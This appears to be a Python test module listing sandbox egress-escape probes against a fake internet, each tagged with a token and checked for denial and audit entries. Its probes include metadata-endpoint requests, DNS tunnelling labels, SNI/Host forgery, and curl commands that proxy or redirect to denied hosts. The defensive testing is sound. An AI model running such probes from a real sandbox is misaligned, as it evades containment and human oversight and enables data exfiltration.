"""The escape probes: what a hostile sandbox would try, per mode. Each
probe carries a fresh token; it escaped if it got an answer from the far
side, or if its token shows up anywhere in the fake internet's log."""

from __future__ import annotations

import base64
import secrets
import struct
from dataclasses import dataclass, field
from typing import Any

from tests.integration.egress import inet as n

RESOLVER = "169.254.53.53"


@dataclass
class Probe:
    id: str
    mode: str
    category: str
    what: str
    spec: dict[str, Any]
    token: str
    # Must fail within two seconds (reset / unreachable / NXDOMAIN).
    fast: bool = True
    # An audit entry this attempt must leave: field -> value.
    audit: dict[str, Any] | None = None
    # Other marks that the far side was reached, besides the token.
    leak_marks: list[str] = field(default_factory=list)
    # Only log entries made at this address count (a redirect probe names
    # its target, token included, in its first, allowed request).
    leak_at: str | None = None


@dataclass(frozen=True)
class Context:
    gateway: str  # the host side of the sandbox's veth
    host_ip: str  # the host's primary address
    api_port: int
    proxy_port: int
    dns_port: int
    neighbour_ip: str
    subnet_other_ip: str


def _tok() -> str:
    return "tok" + secrets.token_hex(6)


def _get(path: str, host: str) -> str:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: probe\r\n\r\n"


def _doh_query(name: str) -> str:
    q = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack("!HH", 1, 1)
    return base64.urlsafe_b64encode(q).decode().rstrip("=")


Add = Any


def _common(add: Add, m: str, ctx: Context) -> None:
    """What no mode may reach: metadata, the host, neighbours, private
    ranges, IPv6, forged source addresses."""
    add(m, "metadata", "metadata address", "HTTP to 169.254.169.254:80",
        {"kind": "http", "ip": "169.254.169.254", "port": 80,
         "requests": [_get("/latest/meta-data/TOKEN", "169.254.169.254")]},
        audit={"ip": "169.254.169.254", "decision": "deny"})
    add(m, "host-api", "host ports", "the API/gateway port on the host's own address",
        {"kind": "http", "ip": ctx.host_ip, "port": ctx.api_port,
         "requests": [_get("/v1/sandbox/TOKEN", "localhost")]},
        audit={"ip": ctx.host_ip, "port": ctx.api_port, "decision": "deny"})
    add(m, "host-gw-api", "host ports", "the API port on the host side of the sandbox's veth",
        {"kind": "http", "ip": ctx.gateway, "port": ctx.api_port,
         "requests": [_get("/TOKEN", "localhost")]},
        audit={"ip": ctx.gateway, "port": ctx.api_port, "decision": "deny"})
    add(m, "host-gw-80", "host ports", "port 80 of the host side of the veth (would be proxied)",
        {"kind": "http", "ip": ctx.gateway, "port": 80, "requests": [_get("/TOKEN", "x")]},
        audit={"ip": ctx.gateway, "port": 80, "decision": "deny"})
    add(m, "host-proxy", "host ports", "the egress proxy's own port, without the redirect",
        {"kind": "http", "ip": ctx.gateway, "port": ctx.proxy_port,
         "requests": [_get("/TOKEN", "allowed.test")]},
        audit={"ip": ctx.gateway, "port": ctx.proxy_port, "decision": "deny"})
    add(m, "host-resolver", "host ports", "the egress resolver's own port, without the redirect",
        {"kind": "dns", "server": ctx.gateway, "port": ctx.dns_port, "name": "TOKEN.test"},
        audit={"ip": ctx.gateway, "port": ctx.dns_port, "decision": "deny"})
    add(m, "neighbour", "neighbour sandbox", "another sandbox's envd port",
        {"kind": "http", "ip": ctx.neighbour_ip, "port": 49983,
         "requests": [_get("/health?TOKEN", "envd")]},
        audit={"ip": ctx.neighbour_ip, "decision": "deny"})
    add(m, "subnet", "neighbour sandbox", "an address of the node's sandbox subnet, port 443",
        {"kind": "tls", "ip": ctx.subnet_other_ip, "port": 443, "sni": "allowed.test",
         "data": "TOKEN"},
        audit={"ip": ctx.subnet_other_ip, "decision": "deny"})
    add(m, "private-http", "private ranges", "HTTP to 192.168.213.2 (a private address)",
        {"kind": "http", "ip": n.PRIVATE_IP, "port": 80, "requests": [_get("/TOKEN", "x")]},
        audit={"ip": n.PRIVATE_IP, "decision": "deny"})
    add(m, "private-tcp", "private ranges", "raw TCP to 192.168.213.2:9000",
        {"kind": "tcp", "ip": n.PRIVATE_IP, "port": 9000, "data": "TOKEN"},
        audit={"ip": n.PRIVATE_IP, "port": 9000, "decision": "deny"})
    add(m, "ipv6", "IPv6", "TCP to an IPv6 address of the fake internet",
        {"kind": "tcp", "ip": n.V6_PEER, "port": 9000, "data": "TOKEN"})
    add(m, "spoof", "spoofing", "UDP with a forged source address (raw socket)",
        {"kind": "spoof", "ip": n.ALLOWED_IP, "port": 9999, "src": n.PEER_IP, "data": "TOKEN"})


def catalogue(ctx: Context) -> list[Probe]:
    out: list[Probe] = []

    def add(mode: str, pid: str, cat: str, what: str, spec: dict[str, Any], *,
            fast: bool = True, audit: dict[str, Any] | None = None,
            leak_marks: list[str] | None = None, leak_at: str | None = None) -> Probe:
        tok = _tok()
        spec = {**spec, "id": f"{mode}-{pid}"}
        for key in ("data", "name", "cmd", "sni"):
            if key in spec and isinstance(spec[key], str):
                spec[key] = spec[key].replace("TOKEN", tok)
        if "requests" in spec:
            spec["requests"] = [r.replace("TOKEN", tok) for r in spec["requests"]]
        if audit:
            audit = {k: v.replace("TOKEN", tok) if isinstance(v, str) else v
                     for k, v in audit.items()}
        probe = Probe(f"{mode}-{pid}", mode, cat, what, spec, tok, fast, audit, leak_marks or [],
                      leak_at)
        out.append(probe)
        return probe

    # -- deny-all: nothing leaves ----------------------------------------------------------
    m = "deny-all"
    add(m, "dns", "DNS", "resolve a public name through the sandbox's resolver",
        {"kind": "dns", "server": RESOLVER, "name": "TOKEN.allowed.test"},
        audit={"protocol": "dns", "host": "TOKEN.allowed.test", "decision": "deny"})
    add(m, "dns-direct", "DNS tunnel", "DNS straight to the internet's DNS server (UDP)",
        {"kind": "dns", "server": n.DNS_IP, "name": "TOKEN.tunnel.test"},
        audit={"protocol": "dns", "host": "TOKEN.tunnel.test", "decision": "deny"})
    add(m, "dns-tcp", "DNS tunnel", "DNS over TCP straight to the internet's DNS server",
        {"kind": "dns", "server": n.DNS_IP, "name": "TOKEN.tunnel.test", "tcp": True},
        audit={"protocol": "dns", "host": "TOKEN.tunnel.test", "decision": "deny"})
    add(m, "http-ip", "direct IP", "HTTP to a public address",
        {"kind": "http", "ip": n.ALLOWED_IP, "port": 80,
         "requests": [_get("/TOKEN", "allowed.test")]},
        audit={"ip": n.ALLOWED_IP, "port": 80, "decision": "deny"})
    add(m, "https-ip", "direct IP", "TLS to a public address with a good SNI",
        {"kind": "tls", "ip": n.ALLOWED_IP, "port": 443, "sni": "allowed.test", "data": "TOKEN"},
        audit={"ip": n.ALLOWED_IP, "port": 443, "decision": "deny"})
    add(m, "tcp-port", "other ports", "raw TCP to port 9000",
        {"kind": "tcp", "ip": n.ALLOWED_IP, "port": 9000, "data": "TOKEN"},
        audit={"ip": n.ALLOWED_IP, "port": 9000, "decision": "deny"})
    add(m, "udp", "UDP", "UDP datagram to port 9999",
        {"kind": "udp", "ip": n.ALLOWED_IP, "port": 9999, "data": "TOKEN"},
        audit={"protocol": "udp", "ip": n.ALLOWED_IP, "decision": "deny"})
    add(m, "icmp", "ICMP", "ICMP echo with a payload",
        {"kind": "icmp", "ip": n.ALLOWED_IP, "data": "TOKEN"}, fast=False,
        audit={"protocol": "icmp", "ip": n.ALLOWED_IP, "decision": "deny"})
    _common(add, m, ctx)

    # -- custom: allowed.test, *.wild.test, multi.test, echo.test, 198.18.0.16/32 ------------
    m = "custom"
    add(m, "dns-denied", "DNS", "resolve a name that is not allowed",
        {"kind": "dns", "server": RESOLVER, "name": "TOKEN.denied.test"},
        audit={"protocol": "dns", "host": "TOKEN.denied.test", "decision": "deny"})
    add(m, "dns-tunnel", "DNS tunnel", "data in the labels of TXT lookups",
        {"kind": "dns", "server": RESOLVER, "name": "ZXhmaWx0cmF0ZWQ.TOKEN.tunnel.test",
         "qtype": 16},
        audit={"protocol": "dns", "decision": "deny"})
    add(m, "dns-tunnel-direct", "DNS tunnel", "DNS sent straight to the internet's server",
        {"kind": "dns", "server": n.DNS_IP, "name": "TOKEN.tunnel.test"},
        audit={"protocol": "dns", "host": "TOKEN.tunnel.test", "decision": "deny"})
    add(m, "dns-tunnel-tcp", "DNS tunnel", "DNS over TCP straight to the internet's server",
        {"kind": "dns", "server": n.DNS_IP, "name": "TOKEN.tunnel.test", "tcp": True},
        audit={"protocol": "dns", "host": "TOKEN.tunnel.test", "decision": "deny"})
    add(m, "dns-port", "DNS tunnel", "DNS to another port (5353) of the internet's server",
        {"kind": "dns", "server": n.DNS_IP, "port": 5353, "name": "TOKEN.tunnel.test"},
        audit={"ip": n.DNS_IP, "port": 5353, "decision": "deny"})
    add(m, "ip-http", "direct IP", "HTTP to a denied address by IP",
        {"kind": "http", "ip": n.DENIED_IP, "port": 80, "requests": [_get("/TOKEN", n.DENIED_IP)]},
        audit={"ip": n.DENIED_IP, "port": 80, "decision": "deny"})
    add(m, "ip-https", "direct IP", "TLS without SNI to a denied address",
        {"kind": "tls", "ip": n.DENIED_IP, "port": 443, "sni": None, "data": "TOKEN"},
        audit={"ip": n.DENIED_IP, "port": 443, "decision": "deny"})
    add(m, "sni-denied", "SNI/Host mismatch", "TLS with a denied SNI",
        {"kind": "tls", "ip": n.DENIED_IP, "port": 443, "sni": "denied.test", "data": "TOKEN"},
        audit={"host": "denied.test", "decision": "deny"})
    add(m, "sni-allowed-wrong-ip", "SNI/Host mismatch",
        "TLS with an allowed SNI to a denied address (forged SNI)",
        {"kind": "tls", "ip": n.DENIED_IP, "port": 443, "sni": "allowed.test", "data": "TOKEN"},
        audit={"host": "allowed.test", "ip": n.DENIED_IP, "rule": "ip-mismatch"})
    add(m, "sni-ip-literal", "SNI/Host mismatch", "TLS whose SNI is a denied address",
        {"kind": "tls", "ip": n.DENIED_IP, "port": 443, "sni": n.DENIED_IP, "data": "TOKEN"},
        audit={"ip": n.DENIED_IP, "port": 443, "decision": "deny"})
    add(m, "host-denied", "SNI/Host mismatch", "Host: denied.test sent to an allowed address",
        {"kind": "http", "ip": n.ALLOWED_IP, "port": 80,
         "requests": [_get("/TOKEN", "denied.test")]},
        audit={"ip": n.ALLOWED_IP, "port": 80, "decision": "deny"})
    add(m, "host-allowed-wrong-ip", "SNI/Host mismatch",
        "Host: allowed.test sent to a denied address (forged Host)",
        {"kind": "http", "ip": n.DENIED_IP, "port": 80,
         "requests": [_get("/TOKEN", "allowed.test")]},
        audit={"ip": n.DENIED_IP, "rule": "ip-mismatch"})
    add(m, "keepalive-switch", "SNI/Host mismatch",
        "a second request on a kept-alive connection with another Host",
        {"kind": "http", "ip": n.ALLOWED_IP, "port": 80,
         "requests": [_get("/first", "allowed.test"), _get("/TOKEN", "denied.test")]},
        audit={"ip": n.ALLOWED_IP, "decision": "deny"})
    add(m, "intercepted-host", "SNI/Host mismatch",
        "on an intercepted domain, a Host other than the SNI",
        {"kind": "http", "ip": n.ECHO_IP, "port": 443, "tls": True, "sni": "echo.test",
         "requests": [_get("/TOKEN", "denied.test")]},
        audit={"ip": n.ECHO_IP, "rule": "host-mismatch"})
    add(m, "absolute-uri", "CONNECT tricks", "GET http://denied.test/... to an allowed server",
        {"kind": "http", "ip": n.ALLOWED_IP, "port": 80,
         "requests": ["GET http://denied.test/TOKEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n"]},
        audit={"ip": n.ALLOWED_IP, "rule": "host-mismatch"})
    add(m, "connect", "CONNECT tricks", "CONNECT denied.test:443 sent to an allowed server",
        {"kind": "http", "ip": n.ALLOWED_IP, "port": 80,
         "requests": ["CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n"
                      "X-Token: TOKEN\r\n\r\n"]},
        audit={"ip": n.ALLOWED_IP, "decision": "deny"})
    add(m, "proxy-env", "CONNECT tricks", "curl through an allowed host as an HTTPS proxy",
        {"kind": "cmd", "cmd": "curl -sS -m 4 -k -x http://allowed.test:80 "
                               "https://denied.test/TOKEN", "expect": "hello"},
        audit={"ip": n.ALLOWED_IP, "rule": "connect"})
    add(m, "redirect", "redirects", "follow a redirect from an allowed to a denied host",
        {"kind": "cmd", "cmd": "curl -sS -m 4 -L 'http://allowed.test/redirect?to="
                               "http://denied.test/TOKEN'", "expect": "hello"},
        audit={"protocol": "dns", "host": "denied.test", "decision": "deny"},
        leak_at=n.DENIED_IP)
    add(m, "redirect-ip", "redirects", "follow a redirect to a denied address",
        {"kind": "cmd", "cmd": "curl -sS -m 4 -L 'http://allowed.test/redirect?to="
                               f"http://{n.DENIED_IP}/TOKEN'", "expect": "hello"},
        audit={"ip": n.DENIED_IP, "decision": "deny"}, leak_at=n.DENIED_IP)
    add(m, "redirect-https", "redirects", "follow a redirect to a denied HTTPS host",
        {"kind": "cmd", "cmd": "curl -sS -m 4 -k -L 'https://allowed.test/redirect?to="
                               f"https://{n.DENIED_IP}/TOKEN' --http1.1", "expect": "hello"},
        audit={"ip": n.DENIED_IP, "port": 443, "decision": "deny"}, leak_at=n.DENIED_IP)
    add(m, "port-8080", "other ports", "an allowed domain on port 8080",
        {"kind": "http", "ip": n.ALLOWED_IP, "port": 8080,
         "requests": [_get("/TOKEN", "allowed.test")]},
        audit={"ip": n.ALLOWED_IP, "port": 8080, "decision": "deny"})
    add(m, "port-8443", "other ports", "TLS to an allowed domain on port 8443",
        {"kind": "tls", "ip": n.ALLOWED_IP, "port": 8443, "sni": "allowed.test", "data": "TOKEN"},
        audit={"ip": n.ALLOWED_IP, "port": 8443, "decision": "deny"})
    add(m, "tcp-9000", "other ports", "raw TCP to an allowed domain's address",
        {"kind": "tcp", "ip": n.ALLOWED_IP, "port": 9000, "data": "TOKEN"},
        audit={"ip": n.ALLOWED_IP, "port": 9000, "decision": "deny"})
    add(m, "udp", "UDP", "UDP to an allowed domain's address",
        {"kind": "udp", "ip": n.ALLOWED_IP, "port": 9999, "data": "TOKEN"},
        audit={"protocol": "udp", "ip": n.ALLOWED_IP, "decision": "deny"})
    add(m, "quic", "UDP", "UDP 443 (QUIC) to an allowed domain's address",
        {"kind": "udp", "ip": n.ALLOWED_IP, "port": 443, "data": "TOKEN"},
        audit={"protocol": "udp", "ip": n.ALLOWED_IP, "port": 443, "decision": "deny"})
    add(m, "icmp", "ICMP", "ICMP echo to an allowed domain's address",
        {"kind": "icmp", "ip": n.ALLOWED_IP, "data": "TOKEN"}, fast=False,
        audit={"protocol": "icmp", "ip": n.ALLOWED_IP, "decision": "deny"})
    add(m, "h2c", "HTTP/2", "HTTP/2 prior knowledge (h2c) to an allowed host",
        {"kind": "cmd", "cmd": "curl -sS -m 4 --http2-prior-knowledge http://allowed.test/TOKEN",
         "expect": "hello"},
        audit={"ip": n.ALLOWED_IP, "port": 80, "decision": "deny"}, leak_marks=['"method": "PRI"'])
    add(m, "h2-denied", "HTTP/2", "HTTP/2 over TLS to a denied host (forced address)",
        {"kind": "cmd", "cmd": f"curl -sS -m 4 -k --http2 --resolve denied.test:443:{n.DENIED_IP}"
                               " https://denied.test/TOKEN", "expect": "hello"},
        audit={"host": "denied.test", "decision": "deny"})
    add(m, "h2-sni-spoof", "HTTP/2", "HTTP/2 with an allowed SNI to a denied address",
        {"kind": "cmd", "cmd": f"curl -sS -m 4 -k --http2 --resolve allowed.test:443:{n.DENIED_IP}"
                               " https://allowed.test/TOKEN", "expect": "hello"},
        audit={"host": "allowed.test", "rule": "ip-mismatch"})
    ws = ("GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
          "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
          "X-Token: TOKEN\r\n\r\n")
    add(m, "ws-host", "WebSocket", "a WebSocket upgrade for a denied Host on an allowed address",
        {"kind": "http", "ip": n.ALLOWED_IP, "port": 80,
         "requests": [ws.format(host="denied.test")]},
        audit={"ip": n.ALLOWED_IP, "decision": "deny"})
    add(m, "ws-ip", "WebSocket", "a WebSocket upgrade for an allowed Host to a denied address",
        {"kind": "http", "ip": n.DENIED_IP, "port": 80,
         "requests": [ws.format(host="allowed.test")]},
        audit={"ip": n.DENIED_IP, "rule": "ip-mismatch"})
    add(m, "doh", "DNS over HTTPS", "DNS over HTTPS to a host that is not allowed",
        {"kind": "cmd", "cmd": f"curl -sS -m 4 -k --resolve dns.test:443:{n.DOH_IP} "
                               f"'https://dns.test/dns-query?dns={_doh_query('tok.tunnel.test')}"
                               "&t=TOKEN' -o /dev/null -w '%{http_code}'", "expect": "200"},
        audit={"host": "dns.test", "decision": "deny"}, leak_marks=[])
    add(m, "doh-ip", "DNS over HTTPS", "DNS over HTTPS to an address, without a name",
        {"kind": "http", "ip": n.DOH_IP, "port": 443, "tls": True, "sni": None,
         "requests": [_get(f"/dns-query?dns={_doh_query('tok.tunnel.test')}&t=TOKEN",
                           n.DOH_IP)]},
        audit={"ip": n.DOH_IP, "port": 443, "decision": "deny"})
    add(m, "private-name", "private ranges", "an allowed-looking name that points inside",
        {"kind": "dns", "server": RESOLVER, "name": "private.test"},
        audit={"protocol": "dns", "host": "private.test", "decision": "deny"})
    _common(add, m, ctx)

    # -- allow-all: the internet, never the inside ---------------------------------------
    m = "allow-all"
    add(m, "dns-rebind", "private ranges", "a public name resolving to a private address",
        {"kind": "cmd", "cmd": "curl -sS -m 4 http://private.test/TOKEN", "expect": "hello"},
        audit={"ip": n.PRIVATE_IP, "decision": "deny"})
    add(m, "private-tls", "private ranges", "TLS to a private address",
        {"kind": "tls", "ip": n.PRIVATE_IP, "port": 443, "sni": "private.test", "data": "TOKEN"},
        audit={"ip": n.PRIVATE_IP, "port": 443, "decision": "deny"})
    add(m, "private-udp", "private ranges", "UDP to a private address",
        {"kind": "udp", "ip": n.PRIVATE_IP, "port": 9999, "data": "TOKEN"},
        audit={"ip": n.PRIVATE_IP, "protocol": "udp", "decision": "deny"})
    add(m, "metadata-dns", "metadata address", "reverse DNS of the metadata address",
        {"kind": "dns", "server": RESOLVER, "name": "254.169.254.169.in-addr.arpa", "qtype": 12},
        audit={"protocol": "dns", "host": "254.169.254.169.in-addr.arpa", "decision": "deny"})
    _common(add, m, ctx)
    return out
